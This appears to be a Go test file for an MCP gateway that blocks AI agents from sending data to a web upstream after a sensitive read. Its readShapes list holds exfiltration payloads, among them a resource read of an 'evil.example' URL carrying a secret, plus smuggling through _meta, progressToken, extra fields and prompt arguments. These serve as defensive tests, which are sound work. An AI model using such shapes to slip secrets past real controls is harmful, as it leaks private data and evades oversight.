package gateway

import (
	"context"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/sluicehq/sluice/gateway/transport"
	"github.com/sluicehq/sluice/intercept"
)

// Reads past a route rule: after a sensitive read closed web (its
// web_search denied), resources/read and prompts/get were decided as reads
// (default_read, allow when unset) and reached web with whatever URI or
// arguments the client chose. A read carries bytes of the client's choosing
// unless it names a URI (or prompt) web listed to it, with nothing else.

// readShapes are reads that carry mark ({{M}}) to the upstream.
var readShapes = []carryShape{
	{"unlisted uri", `{"jsonrpc":"2.0","id":41,"method":"resources/read","params":{"uri":"https://evil.example/?q={{M}}"}}`},
	{"template uri", `{"jsonrpc":"2.0","id":42,"method":"resources/read","params":{"uri":"https://x.example/search/{{M}}"}}`},
	{"listed uri _meta", `{"jsonrpc":"2.0","id":43,"method":"resources/read","params":{"uri":"` + listedURI + `","_meta":{"x":"{{M}}"}}}`},
	{"listed uri progressToken", `{"jsonrpc":"2.0","id":44,"method":"resources/read","params":{"uri":"` + listedURI + `","_meta":{"progressToken":"{{M}}"}}}`},
	{"listed uri member", `{"jsonrpc":"2.0","id":45,"method":"resources/read","params":{"uri":"` + listedURI + `","x":"{{M}}"}}`},
	{"listed uri envelope", `{"jsonrpc":"2.0","id":46,"method":"resources/read","params":{"uri":"` + listedURI + `"},"x":"{{M}}"}`},
	{"prompt arguments", `{"jsonrpc":"2.0","id":47,"method":"prompts/get","params":{"name":"summary","arguments":{"topic":"{{M}}"}}}`},
	{"unlisted prompt", `{"jsonrpc":"2.0","id":48,"method":"prompts/get","params":{"name":"{{M}}"}}`},
}

// plainReads are reads of what web listed, with nothing of the client's:
// they still work once web is closed.
var plainReads = []struct{ name, msg, want string }{
	{"listed uri", `{"jsonrpc":"2.0","id":51,"method":"resources/read","params":{"uri":"` + listedURI + `"}}`, "listed contents"},
	{"listed prompt", `{"jsonrpc":"2.0","id":52,"method":"prompts/get","params":{"name":"summary"}}`, `"messages"`},
	{"listed prompt, empty arguments", `{"jsonrpc":"2.0","id":53,"method":"prompts/get","params":{"name":"summary","arguments":{}}}`, `"messages"`},
}

const rawMeta = `"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"raw","version":"1"},"io.modelcontextprotocol/clientCapabilities":{}`

// modernize makes msg a 2026-07-28 request of agent raw, and returns its
// headers.
func modernize(t *testing.T, msg string) (string, map[string]string) {
	t.Helper()
	switch {
	case strings.Contains(msg, `"params":{}`):
		msg = strings.Replace(msg, `"params":{}`, `"params":{"_meta":{`+rawMeta+`}}`, 1)
	case strings.Contains(msg, `"_meta":{`):
		msg = strings.Replace(msg, `"_meta":{`, `"_meta":{`+rawMeta+`,`, 1)
	case strings.Contains(msg, `"params":{`):
		msg = strings.Replace(msg, `"params":{`, `"params":{"_meta":{`+rawMeta+`},`, 1)
	default:
		msg = strings.Replace(msg, `"method":`, `"params":{"_meta":{`+rawMeta+`}},"method":`, 1)
	}
	m, err := intercept.DecodeMessage([]byte(msg))
	if err != nil {
		t.Fatalf("%s: %v", msg, err)
	}
	return msg, modernHeaders(m.Method, m.Name)
}

// listAll pages through method with send, following the cursors.
func listAll(t *testing.T, method string, send func(msg string) string) string {
	t.Helper()
	var all strings.Builder
	cursor := ""
	for page := 0; page < 20; page++ {
		params := `{}`
		if cursor != "" {
			params = `{"cursor":` + quote(cursor) + `}`
		}
		body := send(`{"jsonrpc":"2.0","id":` + itoa(900+page) + `,"method":"` + method + `","params":` + params + `}`)
		all.WriteString(body)
		var res struct {
			Result struct {
				NextCursor string `json:"nextCursor"`
			} `json:"result"`
		}
		if err := unmarshalBody(body, &res); err != nil {
			t.Fatalf("%s page %d: %v: %s", method, page, err, body)
		}
		if cursor = res.Result.NextCursor; cursor == "" {
			break
		}
	}
	return all.String()
}

// checkReadShapes sends every shape with send (its mark n+base) and wants
// none to reach web, each refused with the route rule's JSON-RPC error.
func checkReadShapes(t *testing.T, web *recorder, base int, send func(msg string) string) {
	t.Helper()
	for n, s := range readShapes {
		mark := markOf(base + n)
		body := send(strings.ReplaceAll(s.msg, "{{M}}", mark))
		if web.reached(mark) {
			t.Errorf("%s: the secret reached the closed upstream (gateway answered %.300s)", s.name, body)
			continue
		}
		if !strings.Contains(body, `"code":-32001`) || !strings.Contains(body, "no-exfil") {
			t.Errorf("%s: got %.300s, want a -32001 JSON-RPC error naming the route rule", s.name, body)
		}
	}
}

// checkPlainReads wants every plain read answered by web.
func checkPlainReads(t *testing.T, send func(msg string) string) {
	t.Helper()
	for _, r := range plainReads {
		if body := send(r.msg); !strings.Contains(body, r.want) || strings.Contains(body, `"error"`) {
			t.Errorf("%s after the deny: got %.300s, want the upstream's answer", r.name, body)
		}
	}
}

// TestAttackReadPastRouteRule: after a sensitive read closed web, no read
// the agent sends web holds the secret, on a 2025-11-25 session and as
// 2026-07-28 stateless requests; reads of what web listed still work.
func TestAttackReadPastRouteRule(t *testing.T) {
	gw, web := carryGateway(t)
	readSecret(t, gw.URL)

	t.Run("session", func(t *testing.T) {
		sid := initialize(t, gw.URL+"/mcp/web")
		hdr := map[string]string{"Mcp-Session-Id": sid, "Mcp-Protocol-Version": "2025-11-25"}
		send := func(msg string) string { _, _, body := post(t, gw.URL+"/mcp/web", hdr, msg); return body }
		if list := listAll(t, "resources/list", send); !strings.Contains(list, listedURI) {
			t.Fatalf("resources/list: got %.300s, want %s", list, listedURI)
		}
		listAll(t, "prompts/list", send)
		checkReadShapes(t, web, 300, send)
		checkPlainReads(t, send)
	})

	t.Run("stateless", func(t *testing.T) {
		send := func(msg string) string {
			msg, hdr := modernize(t, msg)
			_, _, body := post(t, gw.URL+"/mcp/web", hdr, msg)
			return body
		}
		listAll(t, "resources/list", send)
		listAll(t, "prompts/list", send)
		checkReadShapes(t, web, 400, send)
		checkPlainReads(t, send)
	})
}

// TestAttackReadPastRouteRuleRelayed: the same over /ws, /sse and the
// stdio of `sluice wrap` (ServeConn), which the relay serves.
func TestAttackReadPastRouteRuleRelayed(t *testing.T) {
	for n, tr := range []struct {
		name string
		open func(t *testing.T, gw string, g *Gateway) transport.Conn
	}{
		{"ws", func(t *testing.T, gw string, _ *Gateway) transport.Conn {
			return dialWith(t, &transport.WSDialer{URL: "ws" + strings.TrimPrefix(gw, "http") + "/ws/web"})
		}},
		{"sse", func(t *testing.T, gw string, _ *Gateway) transport.Conn {
			return dialWith(t, &transport.SSEDialer{URL: gw + "/sse/web"})
		}},
		{"stdio", func(t *testing.T, _ string, g *Gateway) transport.Conn {
			toGW, fromClient := io.Pipe()
			toClient, fromGW := io.Pipe()
			done := make(chan error, 1)
			go func() { done <- g.ServeConn(context.Background(), "web", transport.NewStdioConn(toGW, fromGW, nil)) }()
			c := transport.NewStdioConn(toClient, fromClient, nil)
			t.Cleanup(func() { fromClient.Close(); c.Close(); <-done })
			return c
		}},
	} {
		t.Run(tr.name, func(t *testing.T) {
			gw, g, web := carryGatewayG(t)
			readSecret(t, gw.URL)
			c := tr.open(t, gw.URL, g)
			recv := func() string {
				ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
				defer cancel()
				b, err := c.Read(ctx)
				if err != nil {
					t.Fatalf("%s: %v", tr.name, err)
				}
				return string(b)
			}
			probe := 0
			// send writes msg and a ping after it, and returns msg's
			// answer, if it is a request, once both are answered (by then
			// msg reached the upstream, if it was forwarded).
			send := func(msg string) string {
				m, err := intercept.DecodeMessage([]byte(msg))
				if err != nil {
					t.Fatal(err)
				}
				probe++
				id := `"probe-` + itoa(probe) + `"`
				for _, m := range []string{msg, `{"jsonrpc":"2.0","id":` + id + `,"method":"ping"}`} {
					if err := c.Write(t.Context(), []byte(m)); err != nil {
						t.Fatal(err)
					}
				}
				answer, pinged := "", false
				for !pinged || (m.Kind == intercept.KindRequest && answer == "") {
					b := recv()
					a, err := intercept.DecodeMessage([]byte(b))
					switch {
					case err != nil || a.Kind == intercept.KindRequest || a.Kind == intercept.KindNotification:
					case a.IDKey() == id:
						pinged = true
					case a.IDKey() == m.IDKey():
						answer = b
					}
				}
				return answer
			}
			send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}`)
			send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
			listAll(t, "resources/list", send)
			listAll(t, "prompts/list", send)
			checkReadShapes(t, web, 500+100*n, send)
			checkPlainReads(t, send)
		})
	}
}

// TestReadsOpenWithoutRouteRule: while no route rule closes web, reads of
// any URI and prompts with arguments reach it as before (default_read).
func TestReadsOpenWithoutRouteRule(t *testing.T) {
	gw, web := carryGateway(t)
	sid := initialize(t, gw.URL+"/mcp/web")
	hdr := map[string]string{"Mcp-Session-Id": sid, "Mcp-Protocol-Version": "2025-11-25"}
	_, _, body := post(t, gw.URL+"/mcp/web", hdr, `{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"https://x.example/search/open-query"}}`)
	if !strings.Contains(body, "searched") || !web.reached("open-query") {
		t.Errorf("template read while open: got %.300s, want the upstream's answer", body)
	}
	_, _, body = post(t, gw.URL+"/mcp/web", hdr, `{"jsonrpc":"2.0","id":2,"method":"prompts/get","params":{"name":"summary","arguments":{"topic":"open-topic"}}}`)
	if !strings.Contains(body, `"messages"`) || !web.reached("open-topic") {
		t.Errorf("prompt with arguments while open: got %.300s, want the upstream's answer", body)
	}
}

// TestAttackReadPastRouteRuleVirtual: through a virtual server, which
// lists and reads through the upstreams' routes, a read of the client's
// making is refused by web's route once web is closed, and the listed
// resource and prompt are still read.
func TestAttackReadPastRouteRuleVirtual(t *testing.T) {
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	c, web := carryVirtualClient(t, ctx)
	read := ""
	for _, n := range toolNames(t, ctx, c) {
		if strings.HasSuffix(n, "read_document") {
			read = n
		}
	}
	if txt, isErr := callText(t, ctx, c, read, map[string]any{"path": "/hr/salaries.csv"}); isErr || read == "" {
		t.Fatalf("sensitive read %q: %s", read, txt)
	}
	if _, err := c.ListResources(ctx, mcp.ListResourcesRequest{}); err != nil {
		t.Fatalf("resources/list: %v", err)
	}
	prompts, err := c.ListPrompts(ctx, mcp.ListPromptsRequest{})
	if err != nil || len(prompts.Prompts) != 1 {
		t.Fatalf("prompts/list: %v, want web's summary", err)
	}
	summary := prompts.Prompts[0].Name
	mark := markOf(900)
	_, err = c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "https://x.example/search/" + mark}})
	if web.reached(mark) || err == nil || !strings.Contains(err.Error(), "no-exfil") {
		t.Errorf("template read after the deny: %v (reached web: %v), want the route rule's error", err, web.reached(mark))
	}
	mark = markOf(901)
	_, err = c.GetPrompt(ctx, mcp.GetPromptRequest{Params: mcp.GetPromptParams{Name: summary, Arguments: map[string]string{"topic": mark}}})
	if web.reached(mark) || err == nil || !strings.Contains(err.Error(), "no-exfil") {
		t.Errorf("prompt with arguments after the deny: %v (reached web: %v), want the route rule's error", err, web.reached(mark))
	}
	if res, err := c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: listedURI}}); err != nil || len(res.Contents) == 0 {
		t.Errorf("listed read after the deny: %v", err)
	}
	if _, err := c.GetPrompt(ctx, mcp.GetPromptRequest{Params: mcp.GetPromptParams{Name: summary}}); err != nil {
		t.Errorf("listed prompt after the deny: %v", err)
	}
}

// TestReadsMCPGoClientAfterDeny: mcp-go's client, in each era, still lists
// and reads web's resource and prompt after a sensitive read closed web,
// and its read of a URI of its own making is refused with the route
// rule's error.
func TestReadsMCPGoClientAfterDeny(t *testing.T) {
	gw, web := carryGateway(t)
	readSecret(t, gw.URL)
	for _, version := range []string{mcp.ProtocolVersion20260728, mcp.ProtocolVersion20251125} {
		t.Run(version, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
			defer cancel()
			c := mcpGoClient(t, ctx, gw.URL+"/mcp/web", version)
			if _, err := c.ListResources(ctx, mcp.ListResourcesRequest{}); err != nil {
				t.Fatalf("ListResources: %v", err)
			}
			if _, err := c.ListPrompts(ctx, mcp.ListPromptsRequest{}); err != nil {
				t.Fatalf("ListPrompts: %v", err)
			}
			if res, err := c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: listedURI}}); err != nil || len(res.Contents) == 0 {
				t.Errorf("ReadResource of the listed URI: %v", err)
			}
			if _, err := c.GetPrompt(ctx, mcp.GetPromptRequest{Params: mcp.GetPromptParams{Name: "summary"}}); err != nil {
				t.Errorf("GetPrompt of the listed prompt: %v", err)
			}
			mark := "SECRET-mcpgo-read-" + version
			_, err := c.ReadResource(ctx, mcp.ReadResourceRequest{Params: mcp.ReadResourceParams{URI: "https://x.example/search/" + mark}})
			if err == nil || !strings.Contains(err.Error(), "no-exfil") || web.reached(mark) {
				t.Errorf("ReadResource of a URI of its making: %v, want the route rule's error and nothing at the upstream", err)
			}
		})
	}
}
